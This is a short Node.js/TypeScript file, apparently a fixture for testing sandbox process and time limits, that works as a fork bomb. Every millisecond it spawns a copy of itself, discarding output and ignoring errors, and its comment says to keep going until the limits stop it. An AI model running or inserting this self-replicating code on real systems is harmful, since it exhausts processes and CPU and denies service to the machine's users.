// Children that cannot be made are no reason to stop: the limit of processes holds, and time ends it.
declare var require: any, process: any, __filename: string;
const { spawn } = require("child_process");
setInterval(() => {
  try {
    spawn(process.execPath, [__filename], { stdio: "ignore" }).on("error", () => {});
  } catch (error) {
    // Go on.
  }
}, 1);
